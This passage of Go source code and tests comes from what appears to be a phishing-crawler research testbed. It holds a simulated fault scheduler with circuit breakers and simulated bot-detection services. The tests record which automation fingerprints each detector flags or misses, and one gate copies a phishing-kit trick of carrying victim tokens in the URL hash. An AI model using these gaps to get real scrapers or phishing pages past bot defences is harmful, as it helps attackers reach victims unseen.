		seq:      splitmix64(uint64(seed)),
		bursts:   map[string]*burst{},
		breakers: map[string]*breaker{},
	}
}

// splitmix64 is the finalizer behind the session's draw stream — the same
// construction as the pipeline's mixSeed, so per-message schedules are
// well-spread even for consecutive message IDs.
func splitmix64(z uint64) uint64 {
	z += 0x9e3779b97f4a7c15
	z ^= z >> 30
	z *= 0xbf58476d1ce4e5b9
	z ^= z >> 27
	z *= 0x94d049bb133111eb
	z ^= z >> 31
	return z
}

// nextRand draws the next value of the session stream. Caller holds mu.
func (s *Session) nextRand() uint64 {
	//cblint:ignore guarded locked-section helper: every caller holds s.mu
	s.seq = splitmix64(s.seq)
	//cblint:ignore guarded locked-section helper: every caller holds s.mu
	return s.seq
}

// nextFloat draws a uniform float64 in [0,1). Caller holds mu.
func (s *Session) nextFloat() float64 {
	return float64(s.nextRand()>>11) / float64(1<<53)
}

// Draw consumes the next fault-schedule decision for host: the continuation
// of an active burst, a freshly drawn burst with probability FaultRate, or
// no fault. webnet.Internet calls it once per round trip. Nil-safe: a nil
// session never faults.
func (s *Session) Draw(host string) Fault {
	if s == nil {
		return Fault{}
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if b := s.bursts[host]; b != nil && b.left > 0 {
		b.left--
		return b.fault
	}
	if s.policy.FaultRate <= 0 || s.nextFloat() >= s.policy.FaultRate {
		return Fault{}
	}
	f := s.drawFault()
	length := 1
	if s.policy.MaxBurst > 1 {
		length = 1 + int(s.nextRand()%uint64(s.policy.MaxBurst))
	}
	s.bursts[host] = &burst{fault: f, left: length - 1}
	return f
}

// drawFault picks the burst's fault kind: 30% NXDOMAIN flap, 30% reset,
// 20% slow-start, 20% 5xx. Caller holds mu.
func (s *Session) drawFault() Fault {
	switch roll := s.nextRand() % 100; {
	case roll < 30:
		return Fault{Kind: FaultNXDomain}
	case roll < 60:
		return Fault{Kind: FaultReset}
	case roll < 80:
		return Fault{Kind: FaultSlowStart, Stall: s.policy.SlowStall}
	default:
		return Fault{Kind: Fault5xx, Status: 503}
	}
}

// Allow reports whether the breaker admits a request to host, transitioning
// an open circuit to half-open once the cool-down has elapsed on the
// virtual clock. A denial is counted as a short-circuit. Nil-safe: a nil
// session always admits.
func (s *Session) Allow(host string) bool {
	if s == nil {
		return true
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	br := s.breakers[host]
	if br == nil || br.state == breakerClosed || br.state == breakerHalfOpen {
		return true
	}
	if s.clock.Now().Sub(br.openedAt) >= s.policy.BreakerCooldown {
		br.state = breakerHalfOpen
		s.metrics.Inc("crawlerbox_breaker_halfopen_total")
		return true
	}
	s.metrics.Inc("crawlerbox_breaker_shortcircuit_total")
	return false
}

// ReportFailure records a failed round trip to host: it counts toward the
// consecutive-failure threshold while closed, and re-opens a half-open
// circuit whose probe failed.
func (s *Session) ReportFailure(host string) {
	if s == nil {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	br := s.breakers[host]
	if br == nil {
		br = &breaker{}
		s.breakers[host] = br
	}
	switch br.state {
	case breakerClosed:
		br.fails++
		if br.fails >= s.policy.BreakerThreshold {
			br.state = breakerOpen
			br.openedAt = s.clock.Now()
			br.fails = 0
			s.metrics.Inc("crawlerbox_breaker_open_total")
		}
	case breakerHalfOpen:
		br.state = breakerOpen
		br.openedAt = s.clock.Now()
		s.metrics.Inc("crawlerbox_breaker_open_total")
	}
}

// ReportSuccess records a successful round trip to host: it resets the
// consecutive-failure count and closes a half-open circuit whose probe
// succeeded.
func (s *Session) ReportSuccess(host string) {
	if s == nil {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	br := s.breakers[host]
	if br == nil {
		return
	}
	if br.state == breakerHalfOpen {
		br.state = breakerClosed
		s.metrics.Inc("crawlerbox_breaker_close_total")
	}
	br.fails = 0
}

// NextBackoff grants the wait before retry number attempt (1-based): the
// exponential step with deterministic jitter, charged against the stage
// budget. It returns false — no retry — when attempt exceeds RetryMax or
// the wait would overdraw the budget. The caller charges the returned
// duration to the analysis's virtual clock; the session never sleeps.
func (s *Session) NextBackoff(attempt int) (time.Duration, bool) {
	if s == nil {
		return 0, false
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if attempt > s.policy.RetryMax {
		return 0, false
	}
	step := s.policy.BackoffBase << (attempt - 1)
	if step > s.policy.BackoffMax || step <= 0 {
		step = s.policy.BackoffMax
	}
	d := step
	if s.policy.JitterFrac > 0 {
		window := time.Duration(float64(step) * s.policy.JitterFrac)
		d = step - window/2 + time.Duration(s.nextFloat()*float64(window))
	}
	if s.spent+d > s.policy.StageBudget {
		return 0, false
	}
	s.spent += d
	s.metrics.Inc("crawlerbox_retries_total")
	return d, true
}

// ResetBudget restores the full stage backoff budget. The pipeline calls it
// at every stage boundary.
func (s *Session) ResetBudget() {
	if s == nil {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.spent = 0
}

// RecordRecovered counts an operation that succeeded after at least one
// retry — the "retried-then-recovered" signal of the fault-recovery table.
func (s *Session) RecordRecovered() {
	if s == nil {
		return
	}
	s.metrics.Inc("crawlerbox_retry_recovered_total")
}

// RecordExhausted counts an operation abandoned with its retry budget spent
// or its breaker open — the graceful-degradation signal that can downgrade
// a message to OutcomePartial.
func (s *Session) RecordExhausted() {
	if s == nil {
		return
	}
	s.metrics.Inc("crawlerbox_retry_exhausted_total")
}
