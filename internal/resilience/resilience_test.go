package resilience

import (
	"errors"
	"fmt"
	"testing"
	"time"
)

// stubClock is a settable virtual clock for breaker cool-down tests.
type stubClock struct{ t time.Time }

func (c *stubClock) Now() time.Time          { return c.t }
func (c *stubClock) advance(d time.Duration) { c.t = c.t.Add(d) }
func newStubClock() *stubClock               { return &stubClock{t: time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)} }
func newTestSession(p *Policy, seed int64) (*Session, *stubClock) {
	c := newStubClock()
	return NewSession(p, seed, c, nil), c
}

func TestNilSessionIsPermissive(t *testing.T) {
	var s *Session
	if f := s.Draw("h.example"); f.Kind != FaultNone {
		t.Errorf("nil Draw = %+v", f)
	}
	if !s.Allow("h.example") {
		t.Error("nil Allow must admit")
	}
	if d, ok := s.NextBackoff(1); ok || d != 0 {
		t.Errorf("nil NextBackoff = %v, %v", d, ok)
	}
	// The remaining methods must simply not panic.
	s.ReportFailure("h.example")
	s.ReportSuccess("h.example")
	s.ResetBudget()
	s.RecordRecovered()
	s.RecordExhausted()
}

func TestDrawRateZeroAndOne(t *testing.T) {
	off := DefaultPolicy()
	off.FaultRate = 0
	s, _ := newTestSession(off, 1)
	for i := 0; i < 1000; i++ {
		if f := s.Draw("h.example"); f.Kind != FaultNone {
			t.Fatalf("rate-0 draw %d = %v", i, f.Kind)
		}
	}
	always := DefaultPolicy()
	always.FaultRate = 1
	s, _ = newTestSession(always, 1)
	for i := 0; i < 100; i++ {
		if f := s.Draw("h.example"); f.Kind == FaultNone {
			t.Fatalf("rate-1 draw %d produced no fault", i)
		}
	}
}

func TestDrawScheduleIsSeedDeterministic(t *testing.T) {
	draw := func(seed int64) []FaultKind {
		s, _ := newTestSession(DefaultPolicy(), seed)
		out := make([]FaultKind, 200)
		for i := range out {
			out[i] = s.Draw(fmt.Sprintf("host-%d.example", i%7)).Kind
		}
		return out
	}
	a, b := draw(42), draw(42)
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("same seed diverges at draw %d: %v vs %v", i, a[i], b[i])
		}
	}
	c := draw(43)
	same := 0
	for i := range a {
		if a[i] == c[i] {
			same++
		}
	}
	if same == len(a) {
		t.Error("different seeds produced identical schedules")
	}
}

func TestDrawBurstPersistsPerHost(t *testing.T) {
	p := DefaultPolicy()
	p.FaultRate = 1 // every fresh draw starts a burst
	s, _ := newTestSession(p, 7)
	// A burst pins the same fault kind on consecutive requests to one host,
	// while an independent host draws its own schedule.
	first := s.Draw("a.example")
	if first.Kind == FaultNone {
		t.Fatal("rate-1 draw returned no fault")
	}
	burstLen := 1
	for i := 0; i < p.MaxBurst; i++ {
		f := s.Draw("a.example")
		if f.Kind != first.Kind {
			break // burst over, a new one started with a fresh kind draw
		}
		burstLen++
	}
	if burstLen > p.MaxBurst {
		t.Errorf("burst ran %d draws, max %d", burstLen, p.MaxBurst)
	}
}

func TestNextBackoffScheduleAndBudget(t *testing.T) {
	p := DefaultPolicy()
	p.JitterFrac = 0 // exact steps
	s, _ := newTestSession(p, 1)
	want := []time.Duration{250 * time.Millisecond, 500 * time.Millisecond, time.Second}
	for i, w := range want {
		d, ok := s.NextBackoff(i + 1)
		if !ok || d != w {
			t.Errorf("NextBackoff(%d) = %v, %v; want %v, true", i+1, d, ok, w)
		}
	}
	if _, ok := s.NextBackoff(p.RetryMax + 1); ok {
		t.Error("NextBackoff beyond RetryMax must refuse")
	}

	// Budget: a tight budget refuses mid-schedule, ResetBudget restores it.
	p2 := DefaultPolicy()
	p2.JitterFrac = 0
	p2.StageBudget = 600 * time.Millisecond
	s2, _ := newTestSession(p2, 1)
	if _, ok := s2.NextBackoff(1); !ok {
		t.Fatal("first backoff must fit the budget")
	}
	if _, ok := s2.NextBackoff(2); ok {
		t.Error("250ms+500ms overdraws the 600ms budget")
	}
	s2.ResetBudget()
	if _, ok := s2.NextBackoff(2); !ok {
		t.Error("after ResetBudget the 500ms step must fit again")
	}
}

func TestNextBackoffJitterBoundsAndDeterminism(t *testing.T) {
	p := DefaultPolicy()
	s1, _ := newTestSession(p, 99)
	s2, _ := newTestSession(p, 99)
	for attempt := 1; attempt <= p.RetryMax; attempt++ {
		d1, ok1 := s1.NextBackoff(attempt)
		d2, ok2 := s2.NextBackoff(attempt)
		if d1 != d2 || ok1 != ok2 {
			t.Errorf("attempt %d: same-seed jitter diverges: %v vs %v", attempt, d1, d2)
		}
		step := p.BackoffBase << (attempt - 1)
		window := time.Duration(float64(step) * p.JitterFrac)
		if d1 < step-window/2 || d1 >= step+window/2+window {
			t.Errorf("attempt %d: %v outside jitter bounds around %v", attempt, d1, step)
		}
	}
}

func TestBackoffStepCapped(t *testing.T) {
	p := DefaultPolicy()
	p.JitterFrac = 0
	p.RetryMax = 10
	p.StageBudget = time.Hour
	s, _ := newTestSession(p, 1)
	for attempt := 1; attempt <= p.RetryMax; attempt++ {
		d, ok := s.NextBackoff(attempt)
		if !ok {
			t.Fatalf("attempt %d refused under an hour budget", attempt)
		}
		if d > p.BackoffMax {
			t.Errorf("attempt %d: step %v exceeds cap %v", attempt, d, p.BackoffMax)
		}
	}
}

func TestBreakerStateMachine(t *testing.T) {
	p := DefaultPolicy()
	s, clock := newTestSession(p, 1)
	const host = "flaky.example"

	// Closed: admits until BreakerThreshold consecutive failures.
	for i := 0; i < p.BreakerThreshold; i++ {
		if !s.Allow(host) {
			t.Fatalf("closed breaker denied request %d", i)
		}
		s.ReportFailure(host)
	}
	if s.Allow(host) {
		t.Fatal("breaker must be open after threshold failures")
	}

	// Open: denies until the cool-down elapses on the virtual clock.
	clock.advance(p.BreakerCooldown - time.Second)
	if s.Allow(host) {
		t.Fatal("breaker admitted before cool-down elapsed")
	}
	clock.advance(2 * time.Second)
	if !s.Allow(host) {
		t.Fatal("breaker must go half-open after cool-down")
	}

	// Half-open probe fails: re-open immediately.
	s.ReportFailure(host)
	if s.Allow(host) {
		t.Fatal("failed half-open probe must re-open the circuit")
	}

	// Another cool-down, successful probe: closed again.
	clock.advance(p.BreakerCooldown)
	if !s.Allow(host) {
		t.Fatal("second half-open probe denied")
	}
	s.ReportSuccess(host)
	if !s.Allow(host) {
		t.Fatal("breaker must be closed after successful probe")
	}
	// And the failure count restarted from zero.
	for i := 0; i < p.BreakerThreshold-1; i++ {
		s.ReportFailure(host)
	}
	if !s.Allow(host) {
		t.Fatal("closed breaker re-opened below threshold")
	}

	// Success while closed resets the consecutive count.
	s.ReportSuccess(host)
	for i := 0; i < p.BreakerThreshold-1; i++ {
		s.ReportFailure(host)
	}
	if !s.Allow(host) {
		t.Fatal("consecutive count must reset on success")
	}

	// Breakers are per host.
	if !s.Allow("healthy.example") {
		t.Fatal("unrelated host affected by another host's breaker")
	}
}

func TestExhaustedErrorTaxonomy(t *testing.T) {
	inner := errors.New("webnet: boom")
	err := error(&ExhaustedError{Attempts: 4, Err: inner})
	if !errors.Is(err, ErrExhausted) {
		t.Error("ExhaustedError must match ErrExhausted")
	}
	if !errors.Is(err, inner) {
		t.Error("ExhaustedError must unwrap to the final attempt's error")
	}
	var ex *ExhaustedError
	if !errors.As(err, &ex) || ex.Attempts != 4 {
		t.Errorf("errors.As lost the attempt count: %+v", ex)
	}
	if errors.Is(err, ErrCircuitOpen) {
		t.Error("ExhaustedError must not match ErrCircuitOpen")
	}
}

func TestFaultKindStrings(t *testing.T) {
	want := map[FaultKind]string{
		FaultNone:      "none",
		FaultNXDomain:  "nxdomain-flap",
		FaultReset:     "reset",
		FaultSlowStart: "slow-start",
		Fault5xx:       "5xx",
	}
	for k, s := range want {
		if k.String() != s {
			t.Errorf("FaultKind(%d) = %q, want %q", k, k.String(), s)
		}
	}
	if (Fault5xx + 1).String() != "unknown" {
		t.Error("sentinel fault kind must be unknown")
	}
}
