package botdetect

import (
	"fmt"
	"strings"
	"sync"

	"crawlerbox/internal/webnet"
)

// Turnstile is the advanced JavaScript-challenge service. A protected site
// embeds its challenge script; the script gathers signals and posts them to
// /verify; human-looking clients receive a single-use clearance token that
// the protected site validates server-to-server with ValidToken.
//
// The paper found Turnstile guarding 74.4% of credential-harvesting
// phishing messages — attackers use the same free tooling defenders do.
type Turnstile struct {
	host      string
	log       *verdictLog
	mu        sync.Mutex
	tokens    map[string]bool // guarded by mu
	nextToken int             // guarded by mu
}

// NewTurnstile installs the service on the network.
func NewTurnstile(net *webnet.Internet, host string) *Turnstile {
	t := &Turnstile{host: host, log: newVerdictLog(), tokens: map[string]bool{}}
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS(host, ip)
	net.Serve(host, func(req *webnet.Request) *webnet.Response {
		switch req.Path {
		case "/challenge.js":
			return &webnet.Response{Status: 200, Body: []byte(t.Script()),
				Headers: map[string]string{"Content-Type": "text/javascript"}}
		case "/verify":
			return t.handleVerify(req)
		default:
			return &webnet.Response{Status: 404}
		}
	})
	return t
}

// Host returns the service host name.
func (t *Turnstile) Host() string { return t.host }

// Script returns the challenge script. It defines __turnstileRun(), which
// posts the signal bundle and invokes the global __turnstileDone callback
// with the token ("" on failure).
func (t *Turnstile) Script() string {
	return `
	function __turnstileCollect() {
		var reasons = [];
		if (navigator.webdriver) { reasons.push("webdriver"); }
		if (navigator.userAgent.indexOf("HeadlessChrome") >= 0) { reasons.push("headless-ua"); }
		if (typeof cdc_adoQpoasnfa76pfcZLmcfl_Array !== "undefined") { reasons.push("cdc-artifact"); }
		if (typeof __driverEvaluateHook !== "undefined") { reasons.push("driver-binary"); }
		if (window["$chrome_asyncScriptInfo"]) { reasons.push("driver-binary"); }
		// Headless rendering stack: software WebGL or none at all.
		var canvas = document.createElement("canvas");
		var gl = canvas.getContext("webgl");
		var renderer = "";
		if (gl && gl.getParameter) { renderer = "" + gl.getParameter(37446); }
		if (renderer === "" || renderer.indexOf("SwiftShader") >= 0) { reasons.push("software-gl"); }
		// Stealth plugins fake the plugin table with generic names.
		if (navigator.plugins.length === 0) {
			reasons.push("no-plugins");
		} else if (navigator.plugins[0].name.indexOf("PDF") < 0) {
			reasons.push("fake-plugins");
		}
		// Environment coherence.
		if (!navigator.cookieEnabled) { reasons.push("cookies-off"); }
		if (screen.width === 0 || screen.height === 0) { reasons.push("no-screen"); }
		if (navigator.languages.length === 0) { reasons.push("no-languages"); }
		// Timing quantization: virtualized clocks are coarse.
		var t0 = performance.now();
		var acc = 0;
		for (var i = 0; i < 60; i++) { acc += i; }
		var t1 = performance.now();
		var d = t1 - t0;
		if (d === 0 || d >= 10) { reasons.push("quantized-clock"); }
		return reasons;
	}
	function __turnstileRun(done) {
		var reasons = __turnstileCollect();
		var xhr = new XMLHttpRequest();
		xhr.open("POST", "https://` + t.host + `/verify", false);
		xhr.send(JSON.stringify({reasons: reasons.join(",")}));
		var token = "";
		if (xhr.status === 200 && xhr.responseText.indexOf("token:") === 0) {
			token = xhr.responseText.slice(6);
		}
		if (done) { done(token); }
		return token;
	}
	`
}

// handleVerify combines the posted client signals with server-visible
// request attributes and issues a token for human-looking clients.
func (t *Turnstile) handleVerify(req *webnet.Request) *webnet.Response {
	reasons := headerChecks(req, true)
	if idx := strings.Index(req.Body, `"reasons":"`); idx >= 0 {
		rest := req.Body[idx+len(`"reasons":"`):]
		if end := strings.IndexByte(rest, '"'); end >= 0 && rest[:end] != "" {
			reasons = append(reasons, strings.Split(rest[:end], ",")...)
		}
	}
	v := Verdict{Bot: len(reasons) > 0, Reasons: reasons}
	t.log.record(req.ClientIP, v)
	if v.Bot {
		return &webnet.Response{Status: 403, Body: []byte(jsonReasons(reasons))}
	}
	t.mu.Lock()
	t.nextToken++
	token := fmt.Sprintf("cf-tok-%06d", t.nextToken)
	t.tokens[token] = true
	t.mu.Unlock()
	return &webnet.Response{Status: 200, Body: []byte("token:" + token)}
}

// ValidToken redeems a clearance token (single use), the server-to-server
// validation a protected site performs.
func (t *Turnstile) ValidToken(token string) bool {
	t.mu.Lock()
	defer t.mu.Unlock()
	if !t.tokens[token] {
		return false
	}
	delete(t.tokens, token)
	return true
}

// VerdictFor returns the last verdict for a client; absent means the client
// never completed the challenge (no JS) and reads as a bot.
func (t *Turnstile) VerdictFor(clientIP string) Verdict {
	if v, ok := t.log.lookup(clientIP); ok {
		return v
	}
	return Verdict{Bot: true, Reasons: []string{"no-challenge-response"}}
}

// GateHTML wraps a target URL behind the Turnstile challenge: the visitor
// loads the gate, the challenge runs, and on success the browser navigates
// to the target with the clearance token appended as tokenParam. The URL
// fragment is preserved across the hop (kits do this so victim tokens in
// the hash survive the challenge).
func (t *Turnstile) GateHTML(targetPath, tokenParam string) string {
	sep := "?"
	if strings.Contains(targetPath, "?") {
		sep = "&"
	}
	return `<html><head>
<script src="https://` + t.host + `/challenge.js"></script>
</head><body>
<div style="background:#f5f5f5;height:40px">Checking your browser before accessing this site...</div>
<script>
__turnstileRun(function(token) {
	if (token !== "") {
		location.href = "` + targetPath + sep + tokenParam + `=" + token + location.hash;
	}
});
</script>
</body></html>`
}
