package botdetect

import (
	"context"

	"strings"
	"testing"
	"time"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/webnet"
)

var _epoch = time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)

// world builds a network with all three detector services and a protected
// origin at secret.example (AnonWAF) plus a BotD-instrumented page at
// page.example and a Turnstile gate at gate.example.
type world struct {
	net   *webnet.Internet
	botd  *BotD
	ts    *Turnstile
	waf   *AnonWAF
	seeds int64
}

func newWorld(t *testing.T) *world {
	t.Helper()
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	w := &world{net: net}
	w.botd = NewBotD(net, "botd.example")
	w.ts = NewTurnstile(net, "turnstile.example")

	// BotD-instrumented page.
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("page.example", ip)
	net.Serve("page.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(
			`<html><body><script src="https://botd.example/botd.js"></script></body></html>`)}
	})

	// Turnstile-gated site: /content requires a valid token.
	ip2 := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("gate.example", ip2)
	net.Serve("gate.example", func(req *webnet.Request) *webnet.Response {
		if req.Path == "/content" {
			token := queryParam(req.RawQuery, "tok")
			if w.ts.ValidToken(token) {
				return &webnet.Response{Status: 200, Body: []byte(
					`<html><body><input type="password" name="pw"></body></html>`)}
			}
			return &webnet.Response{Status: 403, Body: []byte("bad token")}
		}
		return &webnet.Response{Status: 200,
			Body: []byte(w.ts.GateHTML("/content", "tok"))}
	})

	// AnonWAF-protected origin.
	w.waf = NewAnonWAF("secret.example")
	ip3 := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("secret.example", ip3)
	net.Serve("secret.example", w.waf.Wrap(func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("<html><body>origin content</body></html>")}
	}))
	return w
}

func queryParam(raw, key string) string {
	for _, kv := range strings.Split(raw, "&") {
		parts := strings.SplitN(kv, "=", 2)
		if len(parts) == 2 && parts[0] == key {
			return parts[1]
		}
	}
	return ""
}

func (w *world) browse(profile browser.Profile) *browser.Browser {
	w.seeds++
	ip := w.net.AllocateIP(webnet.IPMobile)
	return browser.New(w.net, profile, ip, w.seeds)
}

func TestBotDPassesNotABot(t *testing.T) {
	w := newWorld(t)
	br := w.browse(browser.NotABot())
	if _, err := br.Visit(context.Background(), "https://page.example/"); err != nil {
		t.Fatal(err)
	}
	v := w.botd.VerdictFor(br.ClientIP)
	if v.Bot {
		t.Errorf("NotABot flagged by BotD: %v", v.Reasons)
	}
}

func TestBotDFlagsWebdriver(t *testing.T) {
	w := newWorld(t)
	p := browser.HumanChrome()
	p.WebdriverFlag = true
	br := w.browse(p)
	if _, err := br.Visit(context.Background(), "https://page.example/"); err != nil {
		t.Fatal(err)
	}
	v := w.botd.VerdictFor(br.ClientIP)
	if !v.Bot || !containsReason(v.Reasons, "webdriver") {
		t.Errorf("verdict = %+v", v)
	}
}

func TestBotDFlagsHeadlessUAAndCDC(t *testing.T) {
	w := newWorld(t)
	p := browser.HumanChrome()
	p.UserAgent = strings.Replace(p.UserAgent, "Chrome/", "HeadlessChrome/", 1)
	p.CDPArtifacts = true
	br := w.browse(p)
	if _, err := br.Visit(context.Background(), "https://page.example/"); err != nil {
		t.Fatal(err)
	}
	v := w.botd.VerdictFor(br.ClientIP)
	if !v.Bot || !containsReason(v.Reasons, "headless-ua") || !containsReason(v.Reasons, "cdc-artifact") {
		t.Errorf("verdict = %+v", v)
	}
}

func TestBotDNoJSClientIsBot(t *testing.T) {
	w := newWorld(t)
	if v := w.botd.VerdictFor("203.0.113.77"); !v.Bot {
		t.Error("client that never ran the probe must read as bot")
	}
}

func TestTurnstilePassesNotABotWithoutInteraction(t *testing.T) {
	// The finding Cloudflare paid a bounty for: a clean fingerprint gets a
	// token with zero human interaction.
	w := newWorld(t)
	br := w.browse(browser.NotABot())
	res, err := br.Visit(context.Background(), "https://gate.example/")
	if err != nil {
		t.Fatal(err)
	}
	if v := w.ts.VerdictFor(br.ClientIP); v.Bot {
		t.Fatalf("NotABot flagged by Turnstile: %v", v.Reasons)
	}
	if !strings.Contains(res.FinalURL, "/content?tok=") {
		t.Errorf("final URL = %q, want token redirect", res.FinalURL)
	}
	if !strings.Contains(res.HTML, "password") {
		t.Error("NotABot should reach the gated content")
	}
}

func TestTurnstileFlagsHeadlessGPU(t *testing.T) {
	w := newWorld(t)
	p := browser.HumanChrome() // stealth-style: webdriver hidden, UA clean
	p.Headless = true
	p.GPURenderer = "Google SwiftShader"
	br := w.browse(p)
	if _, err := br.Visit(context.Background(), "https://gate.example/"); err != nil {
		t.Fatal(err)
	}
	v := w.ts.VerdictFor(br.ClientIP)
	if !v.Bot || !containsReason(v.Reasons, "software-gl") {
		t.Errorf("verdict = %+v", v)
	}
}

func TestTurnstileFlagsFakePlugins(t *testing.T) {
	w := newWorld(t)
	p := browser.HumanChrome()
	p.PluginNames = nil // generic "Plugin A" names, the stealth-plugin tell
	br := w.browse(p)
	if _, err := br.Visit(context.Background(), "https://gate.example/"); err != nil {
		t.Fatal(err)
	}
	v := w.ts.VerdictFor(br.ClientIP)
	if !v.Bot || !containsReason(v.Reasons, "fake-plugins") {
		t.Errorf("verdict = %+v", v)
	}
}

func TestTurnstileFlagsDriverBinary(t *testing.T) {
	w := newWorld(t)
	p := browser.HumanChrome()
	p.ChromedriverArtifacts = true
	br := w.browse(p)
	if _, err := br.Visit(context.Background(), "https://gate.example/"); err != nil {
		t.Fatal(err)
	}
	v := w.ts.VerdictFor(br.ClientIP)
	if !v.Bot || !containsReason(v.Reasons, "driver-binary") {
		t.Errorf("verdict = %+v", v)
	}
}

func TestTurnstileFlagsVMClock(t *testing.T) {
	w := newWorld(t)
	p := browser.HumanChrome()
	p.VMTimingSkew = 4.0
	br := w.browse(p)
	if _, err := br.Visit(context.Background(), "https://gate.example/"); err != nil {
		t.Fatal(err)
	}
	v := w.ts.VerdictFor(br.ClientIP)
	if !v.Bot || !containsReason(v.Reasons, "quantized-clock") {
		t.Errorf("verdict = %+v", v)
	}
}

func TestTurnstileTokenSingleUse(t *testing.T) {
	w := newWorld(t)
	br := w.browse(browser.NotABot())
	res, err := br.Visit(context.Background(), "https://gate.example/")
	if err != nil {
		t.Fatal(err)
	}
	token := queryParam(strings.SplitN(res.FinalURL, "?", 2)[1], "tok")
	if token == "" {
		t.Fatal("no token in final URL")
	}
	if w.ts.ValidToken(token) {
		t.Error("token must be single-use (already redeemed by the site)")
	}
}

func TestAnonWAFPassesCleanBrowser(t *testing.T) {
	w := newWorld(t)
	br := w.browse(browser.NotABot())
	res, err := br.Visit(context.Background(), "https://secret.example/account")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.HTML, "origin content") {
		t.Errorf("clean browser blocked; HTML=%q verdict=%+v", res.HTML, w.waf.VerdictFor(br.ClientIP))
	}
	if v := w.waf.VerdictFor(br.ClientIP); v.Bot {
		t.Errorf("WAF verdict = %+v", v)
	}
}

func TestAnonWAFBlocksToolTLS(t *testing.T) {
	w := newWorld(t)
	p := browser.HumanChrome()
	p.TLSFingerprint = "771,4865-4866,generic-library"
	br := w.browse(p)
	res, _ := br.Visit(context.Background(), "https://secret.example/account")
	if res != nil && strings.Contains(res.HTML, "origin content") {
		t.Error("tool TLS fingerprint must be blocked")
	}
	v := w.waf.VerdictFor(br.ClientIP)
	if !v.Bot || !containsReason(v.Reasons, "tool-tls") {
		t.Errorf("verdict = %+v", v)
	}
}

func TestAnonWAFBlocksMissingAcceptLanguage(t *testing.T) {
	w := newWorld(t)
	p := browser.HumanChrome()
	p.SendAcceptLanguage = false
	br := w.browse(p)
	res, _ := br.Visit(context.Background(), "https://secret.example/")
	if res != nil && strings.Contains(res.HTML, "origin content") {
		t.Error("missing Accept-Language must be blocked")
	}
	v := w.waf.VerdictFor(br.ClientIP)
	if !v.Bot || !containsReason(v.Reasons, "no-accept-language") {
		t.Errorf("verdict = %+v", v)
	}
}

func TestAnonWAFBlocksCacheQuirk(t *testing.T) {
	w := newWorld(t)
	p := browser.HumanChrome()
	p.InterceptionCacheQuirk = true
	br := w.browse(p)
	res, _ := br.Visit(context.Background(), "https://secret.example/")
	if res != nil && strings.Contains(res.HTML, "origin content") {
		t.Error("interception cache quirk must be blocked")
	}
	v := w.waf.VerdictFor(br.ClientIP)
	if !v.Bot || !containsReason(v.Reasons, "interception-cache-quirk") {
		t.Errorf("verdict = %+v", v)
	}
}

func TestAnonWAFAllowsChromedriverArtifacts(t *testing.T) {
	// The discriminator that lets undetected_chromedriver pass AnonWAF
	// while failing Turnstile: the WAF's probe ignores driver-binary
	// leftovers.
	w := newWorld(t)
	p := browser.HumanChrome()
	p.ChromedriverArtifacts = true
	br := w.browse(p)
	res, err := br.Visit(context.Background(), "https://secret.example/")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.HTML, "origin content") {
		t.Errorf("chromedriver-based headful browser should pass AnonWAF; verdict=%+v",
			w.waf.VerdictFor(br.ClientIP))
	}
}

func TestAnonWAFInterstitialBlocksNoJS(t *testing.T) {
	w := newWorld(t)
	// A no-JS client: simulate by direct webnet request (no browser).
	resp, err := w.net.Do(context.Background(), &webnet.Request{
		Method: "GET", Host: "secret.example", Path: "/",
		Headers: map[string]string{
			"User-Agent":      "curl/8.0",
			"Accept-Language": "en",
		},
		ClientIP:       "203.0.113.9",
		TLSFingerprint: "771,4865,curl",
	})
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 403 {
		t.Errorf("curl-style client got %d, want 403", resp.Status)
	}
}

func containsReason(reasons []string, want string) bool {
	for _, r := range reasons {
		if r == want {
			return true
		}
	}
	return false
}
