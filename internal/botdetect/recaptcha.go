package botdetect

import (
	"fmt"
	"strings"

	"crawlerbox/internal/webnet"
)

// ReCaptchaV3 is a score-based background verification service in the style
// of Google reCAPTCHA v3. It never interrupts the visitor: its script
// gathers signals silently and posts them for a score. The corpus runs it
// *after* Turnstile (314 messages, 24.8%) so victims never face two visible
// challenges — this service reproduces that background role.
type ReCaptchaV3 struct {
	host string
	log  *verdictLog
}

// NewReCaptchaV3 installs the service on the network.
func NewReCaptchaV3(net *webnet.Internet, host string) *ReCaptchaV3 {
	r := &ReCaptchaV3{host: host, log: newVerdictLog()}
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS(host, ip)
	net.Serve(host, func(req *webnet.Request) *webnet.Response {
		switch req.Path {
		case "/api.js":
			return &webnet.Response{Status: 200, Body: []byte(r.Script()),
				Headers: map[string]string{"Content-Type": "text/javascript"}}
		case "/score":
			reasons := headerChecks(req, false)
			if idx := strings.Index(req.Body, `"reasons":"`); idx >= 0 {
				rest := req.Body[idx+len(`"reasons":"`):]
				if end := strings.IndexByte(rest, '"'); end >= 0 && rest[:end] != "" {
					reasons = append(reasons, strings.Split(rest[:end], ",")...)
				}
			}
			v := Verdict{Bot: len(reasons) > 0, Reasons: reasons}
			r.log.record(req.ClientIP, v)
			score := 0.9
			if v.Bot {
				score = 0.1
			}
			return &webnet.Response{Status: 200, Body: []byte(fmt.Sprintf(`{"score":%.1f}`, score))}
		default:
			return &webnet.Response{Status: 404}
		}
	})
	return r
}

// Host returns the service host name.
func (r *ReCaptchaV3) Host() string { return r.host }

// Script returns the silent background probe.
func (r *ReCaptchaV3) Script() string {
	return `
	(function() {
		var reasons = [];
